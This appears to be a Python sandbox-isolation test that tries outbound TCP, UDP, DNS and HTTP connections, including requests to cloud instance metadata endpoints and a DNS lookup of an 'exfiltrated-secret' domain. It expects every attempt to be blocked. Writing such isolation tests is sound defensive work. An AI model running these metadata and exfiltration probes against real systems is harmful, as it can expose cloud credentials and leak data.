# Tries to send data out: TCP, UDP, DNS and HTTP, to the outside and to the cloud's metadata address.
# sim: connect tcp 93.184.216.34:443
# sim: connect tcp 169.254.169.254:80
# sim: connect udp 8.8.8.8:53
# sim: connect udp 169.254.169.254:53
# sim: connect dns exfiltrated-secret.example.com
# sim: connect http http://example.com/
# sim: connect http http://169.254.169.254/latest/meta-data/
# sim: connect http http://[fd00:ec2::254]/latest/meta-data/
# sim: result {"attempts": 8, "reached": []}
import socket
import urllib.request

socket.setdefaulttimeout(2)
reached, attempts = [], 0


def attempt(name, action):
    global attempts
    attempts += 1
    try:
        action()
    except Exception as refused:
        print(f"blocked  {name}: {refused}")
    else:
        reached.append(name)
        print(f"REACHED  {name}")


def tcp(host, port):
    socket.create_connection((host, port)).close()


def udp(host, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect((host, port))
        s.send(b"secret")
        s.recv(1)


attempt("tcp 93.184.216.34:443", lambda: tcp("93.184.216.34", 443))
attempt("tcp 169.254.169.254:80", lambda: tcp("169.254.169.254", 80))
attempt("udp 8.8.8.8:53", lambda: udp("8.8.8.8", 53))
attempt("udp 169.254.169.254:53", lambda: udp("169.254.169.254", 53))
attempt("dns exfiltrated-secret.example.com", lambda: socket.getaddrinfo("exfiltrated-secret.example.com", 80))
for url in ("http://example.com/", "http://169.254.169.254/latest/meta-data/", "http://[fd00:ec2::254]/latest/meta-data/"):
    attempt(f"http {url}", lambda: urllib.request.urlopen(url))
enclave.result({"attempts": attempts, "reached": reached})
